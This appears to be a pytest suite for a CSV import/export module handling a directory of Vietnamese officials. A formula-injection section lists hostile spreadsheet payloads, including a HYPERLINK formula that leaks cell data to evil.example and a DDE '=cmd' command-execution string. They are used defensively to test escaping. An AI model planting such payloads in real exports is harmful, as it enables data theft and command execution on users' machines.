"""The directory's CSV: parsing what Excel writes, reporting bad rows, writing it back."""

from __future__ import annotations

import csv
import io
import unicodedata
import uuid
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from editor_app.domain.errors import ValidationError
from editor_app.domain.officials.csv_io import (
    format_title,
    parse_officials_csv,
    parse_title,
    to_csv,
)
from editor_app.domain.officials.people import Official, Title

HEADER = "full_name,titles,organization\r\n"
OCT15, JUN30 = date(2020, 10, 15), date(2025, 6, 30)


@pytest.mark.samples
def test_sample_directory(samples_dir: Path) -> None:
    text = (samples_dir / "officials.csv").read_text(encoding="utf-8")
    assert text.startswith("\ufeff")  # as Excel writes it, decoded by the caller
    result = parse_officials_csv(text)
    assert result.errors == []
    assert result.delimiter == ","
    names = [o.full_name for o in result.officials]
    assert names == ["Dương Đức Huy", "Trịnh Việt Hùng", "Nguyễn Văn Trọng", "Trần Cẩm Tú"]
    huy = result.officials[0]
    assert [t.text for t in huy.titles] == [
        "Ủy viên Ban Thường vụ Tỉnh ủy",
        "Trưởng Ban Tuyên giáo Tỉnh ủy",
    ]
    assert huy.organization == "Tỉnh ủy Lào Cai"
    assert all(t.start is None and t.end is None for t in huy.titles)


def test_bom_and_crlf() -> None:
    text = "\ufeff" + HEADER + 'Dương Đức Huy,"Bí thư; Trưởng Ban",Tỉnh ủy\r\n'
    result = parse_officials_csv(text)
    assert result.errors == []
    assert result.officials[0].full_name == "Dương Đức Huy"
    assert [t.text for t in result.officials[0].titles] == ["Bí thư", "Trưởng Ban"]


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_delimiter_is_sniffed(delimiter: str) -> None:
    rows = [
        ["full_name", "titles", "organization"],
        ["Nguyễn Văn Trọng", '"Giám đốc Sở Nội vụ; Phó Chủ tịch Ủy ban bầu cử tỉnh"', "UBND, tỉnh"],
    ]
    text = "\n".join(delimiter.join(r) for r in rows) + "\n"
    result = parse_officials_csv(text)
    assert result.delimiter == delimiter
    assert result.errors == []
    (official,) = result.officials
    assert official.organization == "UBND, tỉnh"
    assert len(official.titles) == 2


def test_excel_sep_line() -> None:
    text = "sep=;\nfull_name;titles\nTrần Cẩm Tú;Ủy viên Bộ Chính trị\n"
    result = parse_officials_csv(text)
    assert result.delimiter == ";"
    assert result.errors == []
    assert result.officials[0].full_name == "Trần Cẩm Tú"


def test_bad_row_is_reported_with_its_line_and_the_rest_imported() -> None:
    text = (
        HEADER
        + 'Dương Đức Huy,"Ủy viên Ban Thường vụ Tỉnh ủy;\nTrưởng Ban Tuyên giáo Tỉnh ủy",Tỉnh ủy\n'
        + ",Bí thư,Tỉnh ủy\n"  # line 4: no name
        + "\n"
        + "Trần Cẩm Tú,Ủy viên Bộ Chính trị [từ 31/02/2020],Trung ương\n"  # line 6: no such day
        + "Nguyễn Văn Trọng,Giám đốc Sở Nội vụ,UBND tỉnh\n"
        + "Lê Văn A,Chánh Văn phòng,UBND,thừa\n"  # line 8: a cell too many
    )
    result = parse_officials_csv(text)
    assert [o.full_name for o in result.officials] == ["Dương Đức Huy", "Nguyễn Văn Trọng"]
    assert len(result.officials[0].titles) == 2  # a line break in a cell separates titles too
    assert [e.line for e in result.errors] == [4, 6, 8]
    assert "họ tên" in result.errors[0].message
    assert "31/02/2020" in result.errors[1].message
    assert str(result.errors[2]).startswith("Dòng 8: ")


@pytest.mark.parametrize("text", ["", "\ufeff", "  \r\n\n"])
def test_empty_file(text: str) -> None:
    result = parse_officials_csv(text)
    assert result.officials == []
    assert len(result.errors) == 1
    assert result.errors[0].line == 1
    assert "trống" in result.errors[0].message


@pytest.mark.parametrize(
    "text", [HEADER, "\ufefffull_name,titles,organization", "full_name;titles\n\n"]
)
def test_header_only(text: str) -> None:
    result = parse_officials_csv(text)
    assert result.officials == []
    assert result.errors == []


def test_missing_column_is_reported_on_the_header_line() -> None:
    result = parse_officials_csv("\nname,organization\nDương Đức Huy,Tỉnh ủy\n")
    assert result.officials == []
    assert [e.line for e in result.errors] == [2]
    assert "titles" in result.errors[0].message


def test_vietnamese_headers_and_extra_columns() -> None:
    oid = uuid.uuid4()
    text = (
        "Họ và tên,Chức vụ,Cơ quan,Tên khác,Nghỉ hưu,Mã,Ghi chú\n"
        f"Dương Đức Huy,Trưởng Ban Tuyên giáo Tỉnh ủy,Tỉnh ủy,Huy; D.Đ.Huy,x,{oid},(bỏ qua)\n"
        "Trần Cẩm Tú,Ủy viên Bộ Chính trị,,,,,\n"
    )
    result = parse_officials_csv(text)
    assert result.errors == []
    huy, tu = result.officials
    assert huy.aliases == ["Huy", "D.Đ.Huy"]
    assert huy.retired is True
    assert huy.id == oid
    assert tu.retired is False


def test_rows_without_id_get_a_stable_id_and_duplicates_are_reported() -> None:
    text = HEADER + "Dương Đức Huy,Bí thư,Tỉnh ủy\nDương  Đức Huy,Bí thư,Tỉnh ủy\n"
    first = parse_officials_csv(text)
    assert first.officials == parse_officials_csv(text).officials  # same id both times
    assert [e.line for e in first.errors] == [3]
    assert "dòng 2" in first.errors[0].message


def test_bad_id_and_bad_retired_value() -> None:
    text = "full_name,titles,id,retired\nA B,Bí thư,not-a-uuid,\nC D,Bí thư,,maybe\n"
    result = parse_officials_csv(text)
    assert result.officials == []
    assert [e.line for e in result.errors] == [2, 3]


def test_everything_is_nfc() -> None:
    text = unicodedata.normalize("NFD", HEADER + "Dương Đức Huy,Trưởng Ban Tuyên giáo,Tỉnh ủy\n")
    (official,) = parse_officials_csv(text).officials
    for value in (official.full_name, official.titles[0].text, official.organization):
        assert unicodedata.is_normalized("NFC", value)
    assert official.full_name == "Dương Đức Huy"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Bí thư Tỉnh ủy", Title("Bí thư Tỉnh ủy")),
        (
            "Bí thư Tỉnh ủy [2020-10-15..2025-06-30]",
            Title("Bí thư Tỉnh ủy", OCT15, JUN30),
        ),
        ("Bí thư Tỉnh ủy [từ 15/10/2020]", Title("Bí thư Tỉnh ủy", date(2020, 10, 15))),
        (
            "Bí thư Tỉnh ủy [Từ 15/10/2020 đến 30/6/2025]",
            Title("Bí thư Tỉnh ủy", OCT15, JUN30),
        ),
        ("Bí thư Tỉnh ủy  [đến 30-06-2025]", Title("Bí thư Tỉnh ủy", None, date(2025, 6, 30))),
        (
            "Bí thư [15/10/2020 – 30/06/2025]",
            Title("Bí thư", OCT15, JUN30),
        ),
        ("Bí thư [15.10.2020…]", Title("Bí thư", date(2020, 10, 15))),
        ("Bí thư [..2025-06-30]", Title("Bí thư", None, date(2025, 6, 30))),
        (
            "Bí thư [tu 15/10/2020 den 30/06/2025]",
            Title("Bí thư", OCT15, JUN30),
        ),
    ],
)
def test_dated_titles(raw: str, expected: Title) -> None:
    assert parse_title(raw) == expected


@pytest.mark.parametrize(
    "raw",
    [
        "Bí thư [15/10/2020]",  # from or until?
        "Bí thư [từ 2025-01-01 đến 2020-01-01]",
        "Bí thư [từ hôm qua]",
        "Bí thư []",
        "[từ 15/10/2020]",
        "Bí thư [từ 15/10/2020] Tỉnh ủy",
        "Bí thư [từ 32/1/2020]",
    ],
)
def test_bad_dated_titles(raw: str) -> None:
    with pytest.raises(ValidationError):
        parse_title(raw)


def test_to_csv_writes_readable_periods() -> None:
    title = Title("Bí thư Tỉnh ủy", OCT15, JUN30)
    assert format_title(title) == "Bí thư Tỉnh ủy [từ 15/10/2020 đến 30/06/2025]"
    text = to_csv([Official("Trịnh Việt Hùng", [title, Title("Chủ tịch HĐND tỉnh")])])
    assert text.splitlines()[0] == "full_name,titles,organization,aliases,retired,id"
    assert "Bí thư Tỉnh ủy [từ 15/10/2020 đến 30/06/2025]; Chủ tịch HĐND tỉnh" in text


@pytest.mark.parametrize(
    "official",
    [
        Official("A B", [Title("Bí thư; Chủ tịch")]),
        Official("A B", [Title("Bí thư [cũ]")]),
        Official("A B", [Title("  ")]),
        Official("A B", [Title("Bí thư", date(2025, 1, 1), date(2020, 1, 1))]),
        Official("A B", aliases=["X; Y"]),
        Official("", [Title("Bí thư")]),
    ],
)
def test_to_csv_refuses_what_it_cannot_write(official: Official) -> None:
    with pytest.raises(ValidationError):
        to_csv([official])


# ---- round trip ---------------------------------------------------------------------------

_letters = st.characters(
    categories=("L", "M", "N", "P", "S", "Zs"), exclude_characters=";[]\u2028\u2029"
)


def _normal(text: str) -> str:
    return " ".join(unicodedata.normalize("NFC", text).split())


# NFC can make a ";" (from U+037E), so the forbidden characters are filtered after it.
_words = (
    st.text(_letters, min_size=1, max_size=30)
    .map(_normal)
    .filter(lambda s: bool(s) and not any(c in s for c in ";[]"))
)
_dates = st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31))


@st.composite
def _titles(draw: st.DrawFn) -> Title:
    text = draw(_words)
    start = draw(st.none() | _dates)
    end = draw(st.none() | _dates)
    if start is not None and end is not None and start > end:
        start, end = end, start
    return Title(text, start, end)


# Any text but control characters that are not whitespace (NUL…: the format refuses them).
_any_text = st.characters().filter(lambda c: c.isspace() or unicodedata.category(c) != "Cc")
_officials = st.builds(
    Official,
    full_name=st.text(_any_text, min_size=1, max_size=40).map(_normal).filter(bool),
    titles=st.lists(_titles(), max_size=4),
    organization=st.text(_any_text, max_size=40),
    aliases=st.lists(_words, max_size=3),
    retired=st.booleans(),
    id=st.uuids(),
)


@settings(max_examples=200)
@given(
    st.lists(_officials, max_size=5, unique_by=lambda o: o.id),
    st.sampled_from([",", ";", "\t"]),
    st.booleans(),
)
def test_round_trip(officials: list[Official], delimiter: str, bom: bool) -> None:
    text = to_csv(officials, delimiter=delimiter)
    result = parse_officials_csv(("\ufeff" if bom else "") + text)
    assert result.errors == []
    assert result.officials == officials


@given(
    st.sampled_from(["", "full_name,titles\n"]),
    st.text(max_size=300) | st.text(st.sampled_from('a,;"\n\r\x00 ='), max_size=300),
)
def test_any_text_gives_officials_or_errors_never_an_exception(header: str, text: str) -> None:
    result = parse_officials_csv(header + text)
    for error in result.errors:
        assert error.line >= 1
        assert error.message
        for english in ("expected", "field", "data", "Error"):  # csv's words, never shown
            assert english not in error.message


# ---- formulas (issue 20, point 2) ---------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "=1+2",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_to_csv_writes_no_cell_a_spreadsheet_runs(delimiter: str) -> None:
    officials = [
        Official(
            name,
            [Title(name), Title("Bí thư")],
            organization=name,
            aliases=[name, "Huy"],
            id=uuid.UUID(int=i),
        )
        for i, name in enumerate([*HOSTILE, "\t=1+2", "\r\n@x"])
    ]
    rows = _cells(to_csv(officials, delimiter=delimiter), delimiter)
    assert len(rows) == len(officials) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
    marked = "'" + HOSTILE[0]
    assert rows[1][:4] == [marked, marked + "; Bí thư", marked, marked + "; Huy"]
    assert rows[7][0] == "'=1+2"  # the tab went with the whitespace: the = is first
    assert rows[8][0] == "'@x"


@pytest.mark.parametrize(
    ("written", "imported"),
    [
        ("'=SUM(A1:A3)", "=SUM(A1:A3)"),  # the spreadsheet's text mark goes
        ("'+84 912", "+84 912"),
        ("'-", "-"),
        ("'@Huy", "@Huy"),
        ("''=x", "'=x"),  # one only
        ("=SUM(A1:A3)", "=SUM(A1:A3)"),  # as written
        ("'Ksor H'Hen", "'Ksor H'Hen"),  # an apostrophe before a letter stays
        ("' =x", "' =x"),
    ],
)
def test_import_takes_off_one_text_mark_before_a_formula_start(written: str, imported: str) -> None:
    text = "full_name,titles,organization,aliases\r\n" + ",".join([written] * 4) + "\r\n"
    (official,) = parse_officials_csv(text).officials
    assert official.full_name == imported
    assert [t.text for t in official.titles] == [imported]
    assert official.organization == imported
    assert official.aliases == [imported]


_hostile_words = st.tuples(
    st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''+", "'-", "=-", "@'"]), _words
).map(lambda p: _normal(p[0] + p[1]))
_hostile_officials = st.builds(
    Official,
    full_name=_hostile_words.filter(bool),
    titles=st.lists(st.builds(Title, _hostile_words.filter(bool)), max_size=3),
    organization=st.one_of(_hostile_words, st.sampled_from(HOSTILE)),
    aliases=st.lists(_hostile_words.filter(bool), max_size=3),
    retired=st.booleans(),
    id=st.uuids(),
)


@settings(max_examples=300)
@given(
    st.lists(_hostile_officials, min_size=1, max_size=5, unique_by=lambda o: o.id),
    st.sampled_from([",", ";", "\t"]),
)
def test_round_trip_of_names_that_start_like_formulas(
    officials: list[Official], delimiter: str
) -> None:
    text = to_csv(officials, delimiter=delimiter)
    for row in _cells(text, delimiter):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
    result = parse_officials_csv(text)
    assert result.errors == []
    assert result.officials == officials


# ---- rows a broken quote or a NUL makes (issue 20, point 8) -------------------------------

ROWS_AFTER = (
    "Nguyễn Văn Trọng,Giám đốc Sở Nội vụ,UBND tỉnh\n"  # line 4
    "Lê Văn A,Chánh Văn phòng,UBND tỉnh\n"  # line 5
)


def test_an_unclosed_quote_that_swallows_the_rest_is_reported_on_its_line() -> None:
    text = (
        HEADER
        + "Dương Đức Huy,Bí thư,Tỉnh ủy\n"
        + '"Trần Cẩm Tú,Ủy viên Bộ Chính trị,Trung ương\n'  # line 3: never closed
        + ROWS_AFTER
    )
    result = parse_officials_csv(text)
    assert [o.full_name for o in result.officials] == ["Dương Đức Huy"]
    (error,) = result.errors
    assert error.line == 3
    assert "ngoặc kép" in error.message
    assert "3–5" in error.message  # the lines it swallowed, none imported
    assert "expected" not in error.message and "data" not in error.message


def test_an_unclosed_quote_closed_by_a_later_row_is_reported_and_the_rest_imported() -> None:
    text = (
        HEADER
        + "Dương Đức Huy,Bí thư,Tỉnh ủy\n"
        + '"Trần Cẩm Tú,Ủy viên Bộ Chính trị,Trung ương\n'  # line 3: never closed…
        + ROWS_AFTER
        + 'Phạm Văn B,"Bí thư; Chủ tịch",Huyện ủy\n'  # line 6: …until this quote
        + "Hoàng Thị C,Phó Chủ tịch,UBND huyện\n"
    )
    result = parse_officials_csv(text)
    assert [o.full_name for o in result.officials] == ["Dương Đức Huy", "Hoàng Thị C"]
    (error,) = result.errors
    assert error.line == 3
    assert "3–6" in error.message and "ngoặc kép" in error.message


def test_a_quote_in_the_middle_of_a_cell_is_reported() -> None:
    text = HEADER + '"Dương" Đức Huy,Bí thư,Tỉnh ủy\nTrần Cẩm Tú,Ủy viên,Trung ương\n'
    result = parse_officials_csv(text)
    assert [o.full_name for o in result.officials] == ["Trần Cẩm Tú"]
    (error,) = result.errors
    assert error.line == 2 and '""' in error.message


def test_a_swallowed_cell_longer_than_csv_reads_is_reported_in_vietnamese() -> None:
    rows = "".join(f"Người {i},Bí thư,Tỉnh ủy {i}\n" for i in range(8000))  # ~230 KB
    text = HEADER + '"Dương Đức Huy,Bí thư,Tỉnh ủy\n' + rows
    result = parse_officials_csv(text)
    assert result.errors and result.errors[0].line == 2
    assert "ngoặc kép" in result.errors[0].message
    assert "field" not in result.errors[0].message


def test_a_line_break_in_a_name_is_reported() -> None:
    text = HEADER + '"Dương Đức\nHuy",Bí thư,Tỉnh ủy\nTrần Cẩm Tú,Ủy viên,Trung ương\n'
    result = parse_officials_csv(text)
    assert [o.full_name for o in result.officials] == ["Trần Cẩm Tú"]
    assert [e.line for e in result.errors] == [2]
    assert "2–3" in result.errors[0].message


@pytest.mark.parametrize(
    ("row", "what"),
    [
        ("Dương Đức\x00Huy,Bí thư,Tỉnh ủy", "NUL"),
        ("Dương Đức Huy,Bí\x00thư,Tỉnh ủy", "NUL"),
        ("Dương Đức Huy,Bí thư,Tỉnh\x00ủy", "NUL"),
        ("Dương Đức Huy\x1b,Bí thư,Tỉnh ủy", "U+001B"),
    ],
)
def test_a_control_character_in_a_cell_is_reported_on_its_line(row: str, what: str) -> None:
    text = HEADER + "Trần Cẩm Tú,Ủy viên,Trung ương\n" + row + "\n" + ROWS_AFTER
    result = parse_officials_csv(text)
    names = [o.full_name for o in result.officials]
    assert names == ["Trần Cẩm Tú", "Nguyễn Văn Trọng", "Lê Văn A"]
    (error,) = result.errors
    assert error.line == 3 and what in error.message


@pytest.mark.parametrize(
    "official",
    [
        Official("Dương Đức\x00Huy"),
        Official("A B", [Title("Bí\x00thư")]),
        Official("A", aliases=["\x07"]),
    ],
)
def test_to_csv_refuses_control_characters(official: Official) -> None:
    with pytest.raises(ValidationError):
        to_csv([official])
